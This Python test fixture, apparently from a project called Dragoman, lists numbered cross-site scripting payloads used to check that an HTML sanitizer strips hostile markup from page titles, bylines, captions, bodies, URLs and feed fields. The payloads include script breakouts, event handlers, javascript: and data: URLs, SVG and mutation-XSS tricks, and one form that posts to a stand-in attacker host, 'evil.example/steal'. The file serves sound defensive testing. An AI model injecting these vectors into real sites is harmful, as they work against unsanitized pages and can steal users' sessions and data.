"""Cross-site scripting payloads, written for Dragoman's tests, each placed where a hostile source would put it.

Every payload carries its own number. If any of them ever runs in a reader's browser it reports that number
through one of the traps the browser test sets: the function ``xss(n)``, the marker variable
``window.xssMarker``, or ``alert``/``confirm``/``prompt``. A payload that is blocked by the
Content-Security-Policy instead shows up as a ``securitypolicyviolation`` event, which the test also
counts as a failure: the sanitizer must have removed it before the policy had to.

``where`` says where the hostile source puts it (see ``tests/security/hostile_site.py``):

* ``title``: the page's ``<title>`` and ``<h1>``, and the feed item's title
* ``feed-title``: only the feed item's title (the page has no title of its own)
* ``author``: the ``author`` meta tag and the visible byline
* ``caption``: the lead image's ``<figcaption>``
* ``site``: the ``og:site_name`` meta tag
* ``body``: inside the article body, between two paragraphs of the story
* ``canonical``, ``image-url``: a URL in ``<link rel=canonical>`` / ``og:image``
* ``channel-title``, ``channel-link``: the feed's own title and link (the source's name and site address)
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    number: int
    where: str
    html: str
    kind: str  # what it tests, for reading a failure: "srcset", "svg", "srcdoc", "formaction", ...


_CATALOG: list[tuple[str, str, str]] = [
    # --- in titles (the page's and the feed's) -------------------------------------------------------------
    ("title", "script", "Budget vote <script>xss({n})</script> tonight"),
    ("title", "breakout", "Harbour report</title><script>xss({n})</script>"),
    ("title", "attribute", 'Ferry news"><img src=x onerror=xss({n})>'),
    ("title", "svg", "Tides <svg/onload=xss({n})> rise"),
    ("title", "entities", "Council &lt;script&gt;xss({n})&lt;/script&gt; meets"),
    ("title", "srcdoc", 'Coral <iframe srcdoc="<script>parent.xss({n})</script>"></iframe> survey'),
    ("title", "javascript-url", '<a href="javascript:xss({n})">Click for the full story</a>'),
    ("title", "event", "Lanterns <details open ontoggle=xss({n})>glow</details>"),
    ("title", "js-string", "Night clinic';xss({n});//"),
    ("title", "template", "Schools {{{{constructor.constructor('xss({n})')()}}}} read"),
    ("title", "heading", "Rovers win</h1><img src=x onerror=xss({n})><h1>"),
    ("title", "mathml", "Satellite <math><mtext></p><script>xss({n})</script></mtext></math> orbit"),
    ("title", "marker", 'Turbine <img src=x onerror="window.xssMarker={n}"> trial'),
    ("title", "bidi", "\u202eDock workers <script>alert({n})</script>"),
    ("feed-title", "script", "Feed only <script>xss({n})</script>"),
    ("feed-title", "attribute", '"><svg onload=xss({n})>'),
    ("feed-title", "entities", "&lt;img src=x onerror=xss({n})&gt;"),
    ("feed-title", "cdata", "<![CDATA[<script>xss({n})</script>]]>"),
    ("feed-title", "javascript-url", '<a href="javascript:alert({n})">Read more</a>'),
    # --- in author names ------------------------------------------------------------------------------------
    ("author", "script", "Ana Ruiz<script>xss({n})</script>"),
    ("author", "attribute", 'Ana Ruiz" onmouseover="xss({n})" x="'),
    ("author", "image", "<img src=x onerror=xss({n})>Ana Ruiz"),
    ("author", "javascript-url", "javascript:xss({n})"),
    ("author", "bdi", "Ana Ruiz</bdi><script>xss({n})</script><bdi>"),
    ("author", "link", '<a href="javascript:xss({n})">Ana Ruiz</a>'),
    ("author", "svg", "Ana <svg><script>xss({n})</script></svg> Ruiz"),
    ("author", "comment", "Ana Ruiz<!--><img src=x onerror=xss({n})>-->"),
    ("author", "entities", "Ana &#60;script&#62;xss({n})&#60;/script&#62; Ruiz"),
    ("author", "marker", "Ana <body onload=window.xssMarker={n}> Ruiz"),
    ("author", "style", "Ana <style>*{{background:url(javascript:xss({n}))}}</style> Ruiz"),
    ("author", "dialog", "Ana Ruiz<img src=x onerror=confirm({n})>"),
    # --- in image captions ----------------------------------------------------------------------------------
    ("caption", "image", "Boats at dawn <img src=x onerror=xss({n})>"),
    ("caption", "breakout", "Boats</figcaption><script>xss({n})</script><figcaption>"),
    ("caption", "iframe", '<iframe src="javascript:parent.xss({n})"></iframe>Boats'),
    ("caption", "marquee", "<marquee onstart=xss({n})>Boats</marquee>"),
    ("caption", "video", "<video><source onerror=xss({n})></video>Boats"),
    ("caption", "audio", "<audio src=x onerror=xss({n})></audio>Boats"),
    ("caption", "object", '<object data="javascript:xss({n})"></object>Boats'),
    ("caption", "embed", '<embed src="javascript:xss({n})">Boats'),
    ("caption", "svg", "Boats <svg><animate onbegin=xss({n}) attributeName=x dur=1s></animate></svg>"),
    ("caption", "srcset", '<img srcset="javascript:xss({n}) 1x" src=x>Boats'),
    ("caption", "formaction", '<button formaction="javascript:xss({n})">Boats</button>'),
    ("caption", "dialog", "Boats <img src=x onerror=prompt({n})>"),
    # --- in the site name -----------------------------------------------------------------------------------
    ("site", "script", "Harbour Ledger<script>xss({n})</script>"),
    ("site", "attribute", 'Harbour Ledger" onfocus="xss({n})" autofocus="'),
    ("site", "image", "<img src=x onerror=xss({n})>Harbour Ledger"),
    # --- in the body ----------------------------------------------------------------------------------------
    ("body", "script", "<script>xss({n})</script>"),
    ("body", "script-src", '<script src="data:text/javascript,xss({n})"></script>'),
    ("body", "split-script", "<scr<script>ipt>xss({n})</scr</script>ipt>"),
    ("body", "image", '<img src="x" onerror="xss({n})">'),
    ("body", "image-quotes", '<img """><script>xss({n})</script>">'),
    ("body", "autofocus", "<input autofocus onfocus=xss({n})>"),
    ("body", "select", "<select autofocus onfocus=xss({n})><option>a</option></select>"),
    ("body", "textarea", "<textarea autofocus onfocus=xss({n})></textarea>"),
    ("body", "tabindex", '<p tabindex="1" autofocus onfocus="xss({n})">A paragraph that wants focus.</p>'),
    ("body", "click", '<a href="#" onclick="xss({n})">a link with a handler</a>'),
    ("body", "pointer", "<div onpointerenter=xss({n})>hover me</div>"),
    ("body", "video-poster", "<video poster=javascript:xss({n})></video>"),
    ("body", "css-url", '<div style="background-image:url(javascript:xss({n}))">styled</div>'),
    ("body", "css-expression", '<div style="width:expression(xss({n}))">styled</div>'),
    ("body", "css-import", "<style>@import 'javascript:xss({n})';</style>"),
    ("body", "stylesheet", '<link rel="stylesheet" href="javascript:xss({n})">'),
    ("body", "meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:xss({n})">'),
    ("body", "base", '<base href="javascript:xss({n})//">'),
    ("body", "table-background", '<table background="javascript:xss({n})"><tr><td>cell</td></tr></table>'),
    ("body", "mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=xss({n})>"></p></noscript>'),
    ("body", "mxss-style", "<noscript><style></noscript><img src=x onerror=xss({n})></style></noscript>"),
    ("body", "mxss-svg-style", "<svg><style><img src=x onerror=xss({n})></style></svg>"),
    ("body", "mxss-math", "<math><mi><mglyph><style><img src=x onerror=xss({n})></style></mglyph></mi></math>"),
    ("body", "mxss-template", "<select><template><style><img src=x onerror=xss({n})></style></template></select>"),
    ("body", "template", "<template><img src=x onerror=xss({n})></template>"),
    ("body", "xmp", "<xmp><img src=x onerror=xss({n})></xmp>"),
    ("body", "comment", "<!--<img src=x onerror=xss({n})>--><p>after a comment</p>"),
    ("body", "cdata", "<![CDATA[><img src=x onerror=xss({n})>]]>"),
    ("body", "marker", "<img src=x onerror=window.xssMarker={n}>"),
    ("body", "alert", "<img src=x onerror=alert({n})>"),
    ("body", "object", '<object data="data:text/html,<script>parent.xss({n})</script>"></object>'),
    ("body", "embed", '<embed src="data:text/html,<script>parent.xss({n})</script>">'),
    ("body", "applet", '<applet code="javascript:xss({n})"></applet>'),
    ("body", "isindex", "<isindex action=javascript:xss({n}) type=image>"),
    ("body", "dom-clobbering", '<img name="xss" id="xssMarker"><a id="xss" href="javascript:xss({n})">x</a>'),
    # --- srcset -------------------------------------------------------------------------------------------------
    ("body", "srcset", '<img src="https://img.example/a.jpg" srcset="javascript:xss({n}) 1x">'),
    ("body", "srcset", '<img srcset="https://img.example/a.jpg 1x" src="x" onerror="xss({n})">'),
    ("body", "srcset", '<picture><source srcset="javascript:xss({n})"><img src="https://img.example/b.jpg"></picture>'),
    ("body", "srcset", '<img srcset=",,,,,x onerror=xss({n})">'),
    ("body", "srcset", "<img src=\"https://img.example/c.jpg\" srcset=\"data:image/svg+xml,<svg onload='xss({n})'>\">"),
    ("body", "srcset", '<img sizes="100vw" srcset="https://img.example/d.jpg 100w" onload="xss({n})">'),
    ("body", "srcset", '<img srcset="https://img.example/e.jpg 1x, javascript:xss({n}) 2x">'),
    # --- SVG ------------------------------------------------------------------------------------------------
    ("body", "svg", "<svg><script>xss({n})</script></svg>"),
    ("body", "svg", "<svg onload=xss({n})></svg>"),
    ("body", "svg", '<svg><a xlink:href="javascript:xss({n})"><text x="20" y="20">tap</text></a></svg>'),
    ("body", "svg", "<svg><set attributeName=onmouseover to=xss({n})></set></svg>"),
    ("body", "svg", '<svg><foreignObject><iframe srcdoc="<script>parent.xss({n})</script>"></iframe></foreignObject></svg>'),
    ("body", "svg", "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss({n})'/>\">"),
    ("body", "svg", "<svg><discard onbegin=xss({n})></discard></svg>"),
    ("body", "svg", "<svg><image href=x onerror=xss({n})></image></svg>"),
    ("body", "svg", '<svg><use href="data:image/svg+xml,<svg id=\'a\' xmlns=\'http://www.w3.org/2000/svg\'><image href=\'x\' onerror=\'xss({n})\'/></svg>#a"></use></svg>'),
    # --- iframe srcdoc and other frames -----------------------------------------------------------------------
    ("body", "srcdoc", '<iframe srcdoc="&lt;script&gt;parent.xss({n})&lt;/script&gt;"></iframe>'),
    ("body", "srcdoc", '<iframe srcdoc="<img src=x onerror=parent.xss({n})>"></iframe>'),
    ("body", "srcdoc", '<iframe src="https://www.youtube-nocookie.com/embed/abc" srcdoc="<script>parent.xss({n})</script>"></iframe>'),
    ("body", "srcdoc", '<iframe src="javascript:parent.xss({n})"></iframe>'),
    ("body", "srcdoc", '<iframe src="data:text/html,<script>parent.xss({n})</script>"></iframe>'),
    ("body", "srcdoc", "<iframe onload=xss({n})></iframe>"),
    ("body", "srcdoc", '<iframe src="https://player.vimeo.com/video/1" onload="xss({n})"></iframe>'),
    ("body", "srcdoc", '<frameset><frame src="javascript:xss({n})"></frameset>'),
    # --- formaction and forms -----------------------------------------------------------------------------------
    ("body", "formaction", '<form><button formaction="javascript:xss({n})">Subscribe</button></form>'),
    ("body", "formaction", '<button form="f" formaction="javascript:xss({n})">Go</button>'),
    ("body", "formaction", '<input type="submit" formaction="javascript:xss({n})" value="Go">'),
    ("body", "formaction", '<input type="image" src="x" formaction="javascript:xss({n})" onerror="xss({n})">'),
    ("body", "formaction", '<form action="javascript:xss({n})"><input type="submit" value="Go"></form>'),
    ("body", "formaction", '<form id="f" action="https://evil.example/steal"><input name="q"></form><button form="f">x</button>'),
    # --- javascript: URLs ---------------------------------------------------------------------------------------
    ("body", "javascript-url", '<a href="javascript:xss({n})">plain</a>'),
    ("body", "javascript-url", '<a href="JaVaScRiPt:xss({n})">mixed case</a>'),
    ("body", "javascript-url", '<a href="&#106;avascript:xss({n})">entity</a>'),
    ("body", "javascript-url", '<a href="javas&#x09;cript:xss({n})">tab</a>'),
    ("body", "javascript-url", '<a href=" &#14; javascript:xss({n})">control character</a>'),
    ("body", "javascript-url", '<a href="javascript&colon;xss({n})">named colon</a>'),
    ("body", "javascript-url", '<a href="jav&#x0A;ascript:xss({n})">newline</a>'),
    ("body", "javascript-url", '<map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:xss({n})"></map>'),
    ("body", "javascript-url", '<a href="vbscript:xss({n})">vbscript</a>'),
    ("canonical", "javascript-url", "javascript:xss({n})"),
    ("image-url", "javascript-url", "javascript:xss({n})"),
    # --- data: URLs ---------------------------------------------------------------------------------------------
    ("body", "data-url", '<a href="data:text/html,<script>xss({n})</script>">data link</a>'),
    ("body", "data-url", '<a href="data:text/html;base64,PHNjcmlwdD54c3MoMCk8L3NjcmlwdD4=#{n}">base64 data link</a>'),
    ("body", "data-url", '<a href="DATA:text/html,<img src=x onerror=xss({n})>">upper-case data link</a>'),
    ("body", "data-url", '<img src="data:text/html,<script>xss({n})</script>">'),
    ("body", "data-url", '<a href="data:image/svg+xml,<svg onload=\'xss({n})\'/>">svg data link</a>'),
    ("canonical", "data-url", "data:text/html,<script>xss({n})</script>"),
    # --- in the feed's own channel: the source's name and site address ----------------------------------------
    ("channel-title", "script", "Harbour Ledger <script>xss({n})</script><img src=x onerror=xss({n})>"),
    ("channel-link", "javascript-url", "javascript:xss({n})"),
    ("image-url", "data-url", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss({n})'/>"),
]


def catalog() -> list[Payload]:
    """Every payload, numbered from 1."""
    return [Payload(n, where, template.format(n=n), kind) for n, (where, kind, template) in enumerate(_CATALOG, 1)]
